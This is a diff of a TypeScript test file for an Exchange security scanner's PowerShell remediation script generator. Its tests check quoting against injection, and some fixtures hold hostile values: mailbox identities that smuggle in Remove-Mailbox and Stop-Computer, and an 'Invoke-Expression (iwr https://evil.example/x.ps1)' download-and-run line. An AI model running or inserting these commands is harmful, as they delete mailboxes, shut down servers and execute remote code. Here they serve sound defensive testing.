@@ -1,4 +1,5 @@
-import { readFileSync } from 'node:fs';
+import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import Ajv04Module from 'ajv-draft-04';
 import { beforeAll, describe, expect, it } from 'vitest';
@@ -6,13 +7,15 @@ import { formatHtml, ROWS_PER_RULE } from '../../src/formatters/html.js';
 import { formatJson } from '../../src/formatters/json.js';
 import { formatJunit } from '../../src/formatters/junit.js';
 import { formatMarkdown } from '../../src/formatters/markdown.js';
-import { formatRemediation, splitStatements } from '../../src/formatters/remediation.js';
+import { formatRemediation } from '../../src/formatters/remediation.js';
 import { formatSarif } from '../../src/formatters/sarif.js';
 import { formatText } from '../../src/formatters/text.js';
 import { loadReportTemplates } from '../../src/io/templates.js';
 import type { ScanResult } from '../../src/model/result.js';
 import { hostileBundle } from '../support/hostile.js';
-import { ROOT } from '../support/run-cli.js';
+import { ROOT, runCli } from '../support/run-cli.js';
+import type { Fix } from '../../src/model/fix.js';
+import { command } from '../../src/engine/functions/fix-builder.js';
 import { scanBundle, scanExamples } from '../support/scan-helpers.js';
 
 const Ajv04 = Ajv04Module.default ?? Ajv04Module;
@@ -107,36 +110,91 @@ describe('Markdown', () => {
 
 describe('remediation script', () => {
   const changing = /^(Set|New|Remove|Enable|Disable|Stop|Start|Restart)-/;
+  const body = (ps: string) => ps.split('\r\n').map((l) => l.trim());
 
-  it('puts -WhatIf on every change, comments each fix, restarts services once per server at the end', () => {
+  it('is UTF-8 with a BOM and CRLF (Windows PowerShell 5.1 reads a BOM-less script in the ANSI code page)', () => {
+    const bytes = Buffer.from(formatRemediation(hostile), 'utf8');
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(bytes.toString('utf8')).not.toMatch(/[^\r]\n/);
+    // "ł" is C5 82 in UTF-8; read as Windows-1252, 82 is a low single quote that PowerShell takes for '.
+    expect(bytes.includes(Buffer.from('Michał', 'utf8'))).toBe(true);
+  });
+
+  it('puts -WhatIf on every change, decided from the cmdlet, and wraps each server in try/catch', () => {
     const ps = formatRemediation(examples);
-    const lines = ps.split('\r\n');
-    const commands = lines.filter((l) => l && !l.startsWith('#') && !l.startsWith('$') && !l.startsWith('Invoke-Command'));
+    const commands = body(ps).filter((l) => l && !l.startsWith('#') && !l.startsWith('$') && !/^(try|\}|if )/.test(l) && !l.startsWith('Write-Warning'));
     expect(commands.length).toBeGreaterThan(20);
-    for (const l of commands) if (changing.test(l)) expect(l, l).toMatch(/ -WhatIf$/);
-    for (const l of lines.filter((x) => x.startsWith('Invoke-Command'))) expect(l).toMatch(/ -WhatIf \}$/);
-    const ex2016b = (ps.split('# Server EX2016B')[1]?.split('# Server ')[0] ?? '').split('\r\n').filter((l) => !l.startsWith('# =')).join('\r\n');
-    const restart = ex2016b.split('\r\n').filter((l) => /Restart-Service/.test(l));
-    expect(restart).toEqual(["Invoke-Command -ComputerName 'EX2016B' -ScriptBlock { Restart-Service -Name MSExchangePOP3,MSExchangePOP3BE,MSExchangeIMAP4,MSExchangeIMAP4BE -WhatIf }"]);
-    expect(ex2016b.trimEnd().split('\r\n').at(-1)).toMatch(/Restart-Service/);
-    expect(ps).toMatch(/# EXSRV-001 high: EX2016A runs .*\r\n# left out: waived until 2027-03-31/);
-    expect(ps).toMatch(/# EXPOP-001 critical: POP3 on EX2016B accepts logons with LoginType PlainTextLogin\r\nSet-PopSettings -Server EX2016B -LoginType SecureLogin -WhatIf/);
+    for (const l of commands) {
+      if (l.startsWith('Invoke-Command')) expect(l).toMatch(/ -WhatIf \}$/);
+      else if (changing.test(l)) expect(l, l).toMatch(/ -WhatIf$/);
+    }
+    for (const server of ['EX2016A', 'EX2016B', 'EXSE01', 'EXSE02']) expect(ps).toMatch(new RegExp(`# Server ${server}\r\n# =+\r\ntry \\{`));
+    expect(ps.match(/\} catch \{/g)?.length).toBe(5);
+    expect(ps).toMatch(/\$casguardFailed \+= 'server EX2016B'/);
+    // An exported name containing "-WhatIf" does not stand in for the script's own -WhatIf.
+    const legacy = body(formatRemediation(hostile)).find((l) => l.startsWith('Set-') && l.includes('Legacy -WhatIf'));
+    expect(legacy).toMatch(/^Set-CASMailbox -Identity 'corp\.contoso\.com\/Staff\/Legacy -WhatIf 8' -PopEnabled \$false -ImapEnabled \$false -WhatIf$/);
   });
 
   it('drops -WhatIf with --apply-ready', () => {
     expect(formatRemediation(examples, true)).not.toMatch(/-WhatIf/);
   });
 
-  it('quotes every exported value so no string can inject PowerShell', () => {
+  it('changes each mailbox with one Set-CASMailbox, naming every rule it fixes', () => {
+    const ps = formatRemediation(examples);
+    const admin = body(ps).filter((l) => l.startsWith("Set-CASMailbox -Identity 'corp.contoso.com/Staff/Administrator'"));
+    expect(admin).toEqual(["Set-CASMailbox -Identity 'corp.contoso.com/Staff/Administrator' -PopEnabled $false -ImapEnabled $false -WhatIf"]);
+    expect(ps).toMatch(/# EXCAS-001 high: [^\r]*\r\n {4}# EXCAS-003 medium: [^\r]*Administrator[^\r]*\r\n {4}# EXCAS-004 medium: [^\r]*\r\n {4}Set-CASMailbox -Identity 'corp\.contoso\.com\/Staff\/Administrator'/);
+  });
+
+  it('never restarts a service its block stops or disables, and restarts only running services', () => {
+    const fix = (server: string, commands: Fix['commands'], restarts: Fix['restarts']): Fix => ({ commands: commands.map((c) => ({ ...c, server })), restarts, manual: [] });
+    const finding = (ruleId: string, server: string, f: Fix) => ({ ...(examples.findings[0] as ScanResult['findings'][number]), ruleId, verdict: 'fail' as const, server, message: ruleId, waiver: undefined, fix: f });
+    const pop = ['MSExchangePOP3', 'MSExchangePOP3BE'];
+    const imap = ['MSExchangeIMAP4', 'MSExchangeIMAP4BE'];
+    const result = {
+      ...examples,
+      findings: [
+        finding('EXPOP-010', 'EX1', fix('EX1', [command('Set-PopSettings', { Server: 'EX1', ProtocolLogEnabled: true })], [{ server: 'EX1', services: pop }])),
+        finding('EXIMAP-010', 'EX1', fix('EX1', [command('Set-ImapSettings', { Server: 'EX1', ProtocolLogEnabled: true })], [{ server: 'EX1', services: imap }])),
+        finding('EXSVC-001', 'EX1', fix('EX1', [{ ...command('Stop-Service', { Name: pop }), stops: pop }], [])),
+      ],
+    };
+    const ps = formatRemediation(result);
+    expect(body(ps).filter((l) => /Restart-Service/.test(l))).toEqual([
+      "Invoke-Command -ComputerName 'EX1' -ScriptBlock { Get-Service -Name MSExchangeIMAP4,MSExchangeIMAP4BE | Where-Object { $_.Status -eq 'Running' } | Restart-Service -WhatIf }",
+    ]);
+  });
+
+  it('gives no fix for a finding that could not be evaluated, only how to get the evidence', () => {
+    const errored = { ...examples.findings.find((f) => f.verdict === 'fail'), verdict: 'error' as const, message: 'could not be checked', fix: undefined };
+    const ps = formatRemediation({ ...examples, findings: [errored as (typeof examples.findings)[number]] });
+    expect(ps).toContain('# Nothing to fix');
+    expect(ps).toMatch(/# Not fixed: findings that could not be evaluated[^\r]*\r\n# Export the missing or cut-off values again \(ConvertTo-Json -Depth 5\)[^\r]*\r\n# [A-Z]+-\d+ \w+: could not be checked/);
+  });
+
+  it('quotes every exported value so no string can inject PowerShell, whatever quote characters it holds', () => {
     const ps = formatRemediation(hostile);
-    for (const line of ps.split('\r\n').filter((l) => l && !l.startsWith('#'))) {
-      // Outside single-quoted strings nothing from an export remains.
-      const outside = line.replace(/'(?:[^']|'')*'/g, "''");
-      expect(outside, line).not.toMatch(/Remove-Mailbox|Stop-Computer|\$\(|<img|onerror/);
+    for (const line of body(ps).filter((l) => l && !l.startsWith('#'))) {
+      // Outside single-quoted strings (every quote PowerShell knows: ' ‘ ’ ‚ ‛) nothing from an export remains.
+      const outside = line.replace(/['\u2018-\u201b](?:[^'\u2018-\u201b]|['\u2018-\u201b]{2})*['\u2018-\u201b]/g, "''");
+      expect(outside, line).not.toMatch(/Remove-Mailbox|Stop-Computer|Invoke-Pwned|\$\(|<img|onerror/);
     }
-    expect(ps).toContain("Set-CASMailbox -Identity 'corp.contoso.com/Staff/''; Remove-Mailbox -Identity * -Confirm:$false; '' 4' -PopEnabled $false -WhatIf");
-    expect(ps).toContain("Set-CASMailbox -Identity ('corp.contoso.com/Staff/`n# line break attempt' + [char]13 + [char]10 + 'Stop-Computer 6') -PopEnabled $false -WhatIf");
-    expect(splitStatements("Set-X -Name 'a;b' ; Set-Y  # on 'c'")).toEqual(["Set-X -Name 'a;b'", 'Set-Y']);
+    expect(ps).toContain("Set-CASMailbox -Identity 'corp.contoso.com/Staff/''; Remove-Mailbox -Identity * -Confirm:$false; '' 4' -PopEnabled $false -ImapEnabled $false -WhatIf");
+    expect(ps).toContain("Set-CASMailbox -Identity ('corp.contoso.com/Staff/`n# line break attempt' + [char]13 + [char]10 + 'Stop-Computer 6') -PopEnabled $false -ImapEnabled $false -WhatIf");
+    expect(ps).toContain("Invoke-Command -ComputerName 'EVIL<b>01\u2019\u2019; Invoke-Pwned; \u2018\u2018' -ScriptBlock");
+  });
+
+  it('is not written from a saved result: render refuses, so no PowerShell is copied from a file', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'casguard-render-'));
+    const saved = join(dir, 'results.json');
+    const doctored = JSON.parse(formatJson(examples)) as ScanResult;
+    for (const f of doctored.findings) if (f.remediation) f.remediation = 'Invoke-Expression (iwr https://evil.example/x.ps1)';
+    writeFileSync(saved, JSON.stringify(doctored));
+    const out = runCli(['render', saved, '-f', 'remediation', '-o', join(dir, 'fix.ps1')]);
+    expect(out.code).toBe(2);
+    expect(out.stderr).toMatch(/^error: .*remediation script.*scan/m);
+    expect(existsSync(join(dir, 'fix.ps1'))).toBe(false);
   });
 });
 
